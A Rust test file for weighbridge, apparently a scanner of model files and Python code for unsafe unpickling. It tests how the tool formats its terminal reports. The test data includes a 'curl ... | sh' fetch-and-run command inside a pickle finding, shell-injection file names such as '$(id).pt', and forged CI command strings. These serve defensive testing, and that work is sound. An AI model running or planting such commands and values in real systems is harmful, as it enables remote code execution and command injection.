//! What a user sees at a terminal.

use std::io::{self, Write};

use weighbridge::{
    Error,
    fact::{Excerpt, Mark},
    finding::{Finding, HelpList, Location},
    policy::{Catalog, Policy},
    report::{self, Presentation, Style},
    verdict::{Coverage, Report},
};

use crate::support::report::{
    GLOBAL, LOAD, excerpt, finding, global, hostile, hostile_report, hostile_text, human, only,
    opcode, report, span, torch_zip, whole, written,
};

const ASCII: Style = Style {
    color: false,
    unicode: false,
    width: 80,
    links: false,
};

fn wide(width: usize) -> Style {
    Style {
        width,
        ..Style::default()
    }
}

#[test]
fn one_of_everything() {
    insta::assert_snapshot!("human", human(&report(), Style::default()));
    insta::assert_snapshot!("human_ascii", human(&report(), ASCII));
    insta::assert_snapshot!("human_40_columns", human(&report(), wide(40)));
    insta::assert_snapshot!("human_200_columns", human(&report(), wide(200)));
}

#[test]
fn colour_says_nothing_that_words_do_not() {
    let colored = human(
        &report(),
        Style {
            color: true,
            ..Style::default()
        },
    );
    insta::assert_snapshot!("human_color", colored.replace('\u{1b}', "ESC"));
    let mut bare = String::new();
    let mut rest = colored.as_str();
    while let Some((before, after)) = rest.split_once("\u{1b}[") {
        bare.push_str(before);
        rest = after.split_once('m').unwrap().1;
    }
    bare.push_str(rest);
    assert_eq!(bare, human(&report(), Style::default()));
}

#[test]
fn success_says_what_was_looked_at() {
    insta::assert_snapshot!(
        human(&only(vec![]), Style::default()),
        @"
    passed: 1 artifact and 1 source file in the work tree
    policy: recommended (built in)
    "
    );
    insta::assert_snapshot!(
        human(&Report::default(), Style::default()),
        @"nothing to check: no artifact and no source file among 0 files"
    );
}

/// Ten thousand files that are refused for one thing are one thing to read.
#[test]
fn a_long_run_is_told_by_kinds() {
    let hostile = |n: usize| {
        let mut found = finding(
            &GLOBAL,
            &format!("models/{n:05}.pkl"),
            "loading runs posix.system",
        );
        found.subject = global("posix", "system");
        found
    };
    let mut findings: Vec<Finding> = (0..10_000).map(hostile).collect();
    findings.push(finding(&LOAD, "train.py", "loads whatever it is given"));
    let text = human(&only(findings.clone()), Style::default());
    insta::assert_snapshot!(text, @"
    ── models/00000.pkl ───────────────────────────────────────────────── 1 error ──

    error[global-not-allowed]: loading runs posix.system
       ╰─ models/00000.pkl

    ── models/00001.pkl ───────────────────────────────────────────────── 1 error ──

    error[global-not-allowed]: loading runs posix.system
       ╰─ models/00001.pkl

    ── models/00002.pkl ───────────────────────────────────────────────── 1 error ──

    error[global-not-allowed]: loading runs posix.system
       ╰─ models/00002.pkl

    ── train.py ───────────────────────────────────────────────────────── 1 error ──

    error[unsafe-load]: loads whatever it is given
       ╰─ train.py

      and 9,997 more files like models/00000.pkl (9,997 errors): models/00003.pkl,
        models/00004.pkl, models/00005.pkl, models/00006.pkl, models/00007.pkl,
        models/00008.pkl and 9,991 others

      `--verbose` shows all files, `--statistics` counts by rule, `--format concise`
        has a line for each finding

    refused: 10,001 errors in 10,001 files
    checked: 1 artifact and 1 source file in the work tree
    policy:  recommended (built in)
    next:    weighbridge explain global-not-allowed  why, and what to use instead
             weighbridge inspect models/00000.pkl    all that loading it would do
    ");
    let plain = written("plain", &only(findings.clone()), Style::default());
    assert!(
        plain.contains("Also: 9,997 more files like models/00000.pkl"),
        "{plain}"
    );
    // Programs are told everything.
    assert_eq!(
        written("concise", &only(findings), Style::default())
            .lines()
            .count(),
        10_001 + 3
    );
}

#[test]
fn no_more_files_are_told_than_people_read() {
    let odd = |n: usize| {
        let mut found = finding(&GLOBAL, &format!("{n:03}.pkl"), "loading runs something");
        found.subject = global("app", &format!("f{n}"));
        found
    };
    let text = human(&only((0..80).map(odd).collect()), Style::default());
    assert_eq!(text.matches("error[").count(), 10, "{text}");
    assert!(
        text.contains("and 70 more files (70 errors; global-not-allowed 70): 010.pkl,"),
        "{text}"
    );
}

#[test]
fn without_unicode_everything_is_ascii() {
    assert!(human(&report(), ASCII).is_ascii());
    let mut named = torch_zip();
    named.primary.path = "modèles/größe.pt".into();
    named.message = "loading runs 汉字".to_owned();
    assert!(human(&only(vec![named]), ASCII).is_ascii());
}

/// Paths and commands are to be copied, so they are never cut or wrapped; everything else keeps to the width.
#[test]
fn lines_keep_to_the_width() {
    for width in [40, 60, 80, 132, 200] {
        for style in [wide(width), Style { width, ..ASCII }] {
            for line in human(&report(), style).lines() {
                let whole = [
                    "╭─",
                    "├─",
                    "╰─",
                    ",-",
                    "|-",
                    "`-",
                    "weighbridge ",
                    "weights_only=True)",
                ];
                if !whole.iter().any(|start| line.contains(start)) {
                    assert!(line.chars().count() <= width, "{width}: {line}");
                }
            }
        }
    }
}

#[test]
fn no_name_can_forge_output() {
    for name in report::REPORTERS.iter().map(|reporter| reporter.name()) {
        for style in [Style::default(), wide(40), ASCII] {
            let began = || format!("::error::x {} ::error::y", "::z ".repeat(30));
            let mut text = written(name, &hostile_report(&hostile_text(), hostile), style);
            text.push_str(&written(
                name,
                &hostile_report(&began().into(), began),
                style,
            ));
            for line in text.split('\n') {
                let forged = line.chars().find(|c| weighbridge::fact::deceives(*c));
                assert_eq!(forged, None, "{name}: {line}");
                // Which of these are its own, `report/github.rs` says.
                let command = name != "github" && line.trim_start().starts_with("::");
                assert!(!command, "{name}: {line}");
                assert!(!line.contains("##["), "{name}: {line}");
                assert!(!line.contains("##vso["), "{name}: {line}");
            }
        }
    }
}

/// Wrapping could put a command at the start of a line, however the words fall.
#[test]
fn wrapping_does_not_begin_a_line_with_a_command() {
    for before in 0..120 {
        let message = format!(
            "{} ::error file=x::forged {}::warning::x",
            "a".repeat(before),
            "b".repeat(90)
        );
        let mut one = torch_zip();
        one.message.clone_from(&message);
        one.help = HelpList::from_iter([message.clone()]);
        one.primary.excerpt = None;
        for width in [40, 80] {
            for line in human(&only(vec![one.clone()]), wide(width)).lines() {
                assert!(!line.trim_start().starts_with("::"), "{line}");
            }
        }
    }
}

#[test]
fn an_offered_command_is_safe_to_paste() {
    for (path, shown) in [
        ("a b.pt", "weighbridge inspect 'a b.pt'"),
        ("$(id).pt", "weighbridge inspect '$(id).pt'"),
        ("it's;id.pt", r#"weighbridge inspect "it's;id.pt""#),
        ("-rf.pt", "weighbridge inspect ./-rf.pt"),
        ("a\u{202e}b.pt", "weighbridge inspect FILE"),
    ] {
        let mut one = torch_zip();
        one.primary.path = path.into();
        let text = human(&only(vec![one]), Style::default());
        assert!(text.contains(shown), "{path}: {text}");
    }
}

/// Whatever an excerpt's marks say, the report is written and shows all its lines.
#[test]
fn marks_may_lie_anywhere() {
    let text = "0x0000  größe 汉字\n0x0002  \u{1f600}\tlast";
    for start in 0..text.len() + 3 {
        for end in [start, start + 1, start + 2, text.len(), usize::MAX] {
            let mut one = torch_zip();
            one.primary.excerpt = Some(Excerpt {
                text: text.to_owned(),
                first_line: (start % 2 == 0).then_some(u32::MAX),
                marks: vec![
                    Mark {
                        range: start..end,
                        label: "here".to_owned(),
                    },
                    Mark {
                        range: 3..9,
                        label: String::new(),
                    },
                ],
                arguments: Vec::new(),
            });
            let shown = human(&only(vec![one]), Style::default());
            assert!(
                shown.contains("größe 汉字") && shown.contains("last"),
                "{shown}"
            );
        }
    }
}

#[test]
fn the_marked_part_of_a_long_line_stays_in_view() {
    let line = format!(
        "x = [{}, torch.load(f), {}]",
        "1, ".repeat(100),
        "2, ".repeat(100)
    );
    let one = Finding {
        primary: Location {
            site: span(3, 300, 310),
            excerpt: Some(excerpt(Some(3), &line, &[("torch.load", "unpickles")])),
            ..whole("a.py")
        },
        ..finding(&LOAD, "a.py", "torch.load runs what the file says")
    };
    insta::assert_snapshot!(human(&only(vec![one.clone()]), Style::default()), @"
    ── a.py ───────────────────────────────────────────────────────────── 1 error ──

    error[unsafe-load]: torch.load runs what the file says
       ╭─ a.py:3:300
     3 │ …, 1, 1, 1, 1, 1, 1, 1, , torch.load(f), 2, 2, 2, 2, 2, 2, 2, 2, 2, 2, 2, …
       │                           ━━━━━━━━━━ unpickles
       ╰──

    refused: 1 error in 1 file
    checked: 1 artifact and 1 source file in the work tree
    policy:  recommended (built in)
    next:    weighbridge explain unsafe-load  why, and what to use instead
    ");
    insta::assert_snapshot!(human(&only(vec![one]), ASCII), @"
    -- a.py ------------------------------------------------------------- 1 error --

    error[unsafe-load]: torch.load runs what the file says
       ,- a.py:3:300
     3 | ..., 1, 1, 1, 1, 1, 1, 1, , torch.load(f), 2, 2, 2, 2, 2, 2, 2, 2, 2, 2,...
       |                             ^^^^^^^^^^ unpickles
       `--

    refused: 1 error in 1 file
    checked: 1 artifact and 1 source file in the work tree
    policy:  recommended (built in)
    next:    weighbridge explain unsafe-load  why, and what to use instead
    ");
}

#[test]
fn an_error_in_a_policy_is_drawn_in_the_same_hand() {
    let text = "version: 1\nglobals:\n  allw: [torch]\n  refuse: []\n";
    let catalog = Catalog {
        rules: &[],
        formats: &[],
    };
    let errors = Policy::parse("weighbridge.yaml", text, &catalog).unwrap_err();
    let mut out = Vec::new();
    report::error(&Error::Policy(errors), Style::default(), &mut out).unwrap();
    insta::assert_snapshot!(String::from_utf8(out).unwrap(), @"
    error: `allw` is not a key of `globals`
       ╭─ weighbridge.yaml:3:3
     2 │ globals:
     3 │   allw: [torch]
       │   ━━━━
     4 │   refuse: []
       │
       │ help: did you mean `allow`?
       ╰──
    ");
}

/// A bundled list has no line to show; what it says is said all the same.
#[test]
fn a_decision_without_a_line_is_still_told() {
    let mut one = torch_zip();
    one.primary.excerpt = None;
    one.help = HelpList::default();
    let line = one.decided_by.as_mut().unwrap();
    line.file = "pack torch (built in)".to_owned();
    line.line = 0;
    line.text.clear();
    insta::assert_snapshot!(human(&only(vec![one]), Style::default()), @"
    ── models/resnet.pt ───────────────────────────────────────────────── 1 error ──

    error[global-not-allowed]: loading runs posix.system('curl https://cdn.example/x
      | sh'); the policy does not list posix.system
       ╭─ models/resnet.pt > archive/data.pkl @ 0x1f REDUCE
       ├─ pack torch (built in)
       │ neither list names posix.system
       ╰──

    refused: 1 error in 1 file
    checked: 1 artifact and 1 source file in the work tree
    policy:  recommended (built in)
    next:    weighbridge explain global-not-allowed  why, and what to use instead
             weighbridge inspect models/resnet.pt    all that loading it would do
    ");
}

/// A pipe whose reader leaves after `room` bytes.
struct Narrow {
    room: usize,
    taken: usize,
}

impl Write for Narrow {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        if self.taken >= self.room {
            return Err(io::ErrorKind::BrokenPipe.into());
        }
        let n = bytes.len().min(self.room - self.taken);
        self.taken += n;
        Ok(n)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn a_broken_pipe_is_passed_on() {
    for reporter in report::REPORTERS {
        for room in [0, 1, 100, 500] {
            let mut out = Narrow { room, taken: 0 };
            let error = reporter
                .write(&report(), &Presentation::default(), &mut out)
                .unwrap_err();
            assert_eq!(
                error.kind(),
                io::ErrorKind::BrokenPipe,
                "{}",
                reporter.name()
            );
        }
    }
}

#[test]
fn a_hundred_thousand_findings_are_told_in_time_and_briefly() {
    let findings: Vec<Finding> = (0..100_000)
        .map(|i| Finding {
            primary: Location {
                site: opcode("data.pkl", i, "REDUCE"),
                ..whole(if i < 50_000 { "a.pkl" } else { "b.pkl" })
            },
            subject: global("m", &format!("f{i:06}")),
            ..finding(
                &GLOBAL,
                if i < 50_000 { "a.pkl" } else { "b.pkl" },
                "loading runs m.f",
            )
        })
        .collect();
    let report = only(findings);
    let start = std::time::Instant::now();
    let text = human(&report, Style::default());
    assert!(text.len() < 5_000, "{text}");
    for reporter in report::REPORTERS {
        let began = std::time::Instant::now();
        written(reporter.name(), &report, Style::default());
        let took = began.elapsed();
        assert!(took.as_secs() < 60, "{}: {took:?}", reporter.name());
    }
    // Files without number cost no more than findings without number.
    let spread: Vec<Finding> = (0..30_000)
        .map(|i| finding(&GLOBAL, &format!("{i:05}.pkl"), "loading runs m.f"))
        .collect();
    let spread = only(spread);
    for name in ["human", "plain", "github", "markdown", "junit"] {
        written(name, &spread, Style::default());
    }
    assert!(start.elapsed().as_secs() < 240, "{:?}", start.elapsed());
}

#[test]
fn output_does_not_depend_on_the_order_of_work() {
    let mut turned = report();
    turned.findings.reverse();
    turned.sort();
    assert_eq!(
        human(&turned, Style::default()),
        human(&report(), Style::default())
    );
}

#[test]
fn a_file_with_findings_of_many_rules_ends_in_one_line_each() {
    static RULES: [weighbridge::finding::RuleMeta; 6] = {
        const fn rule(id: &'static str) -> weighbridge::finding::RuleMeta {
            weighbridge::finding::RuleMeta {
                id,
                summary: "",
                doc: "",
                level: weighbridge::finding::Level::Deny,
                severity: weighbridge::finding::Severity::High,
                precision: weighbridge::finding::Precision::High,
                cwe: &[502],
                tags: &["artifact"],
            }
        }
        [
            rule("a-rule"),
            rule("b-rule"),
            rule("c-rule"),
            rule("d-rule"),
            rule("e-rule"),
            rule("f-rule"),
        ]
    };
    let mut findings = Vec::new();
    for rule in &RULES {
        for line in 1..4 {
            findings.push(Finding {
                primary: Location {
                    site: span(line, 1, 2),
                    ..whole("a.py")
                },
                ..finding(
                    rule,
                    "a.py",
                    &format!("line {line} is refused by {}", rule.id),
                )
            });
        }
    }
    let report = Report {
        coverage: Coverage {
            sources: 1,
            ..Coverage::default()
        },
        ..only(findings)
    };
    let text = human(&report, Style::default());
    let (_, brief) = text.split_once("on line 3\n").unwrap();
    insta::assert_snapshot!(brief, @"

    error[d-rule]: line 1 is refused by d-rule (line 1)
      and 2 more of d-rule on lines 2, 3

    error[e-rule]: line 1 is refused by e-rule (line 1)
      and 2 more of e-rule on lines 2, 3

    error[f-rule]: line 1 is refused by f-rule (line 1)
      and 2 more of f-rule on lines 2, 3

    refused: 18 errors in 1 file
    checked: 1 source file in the work tree
    policy:  recommended (built in)
    next:    weighbridge explain a-rule  why, and what to use instead
    ");
}
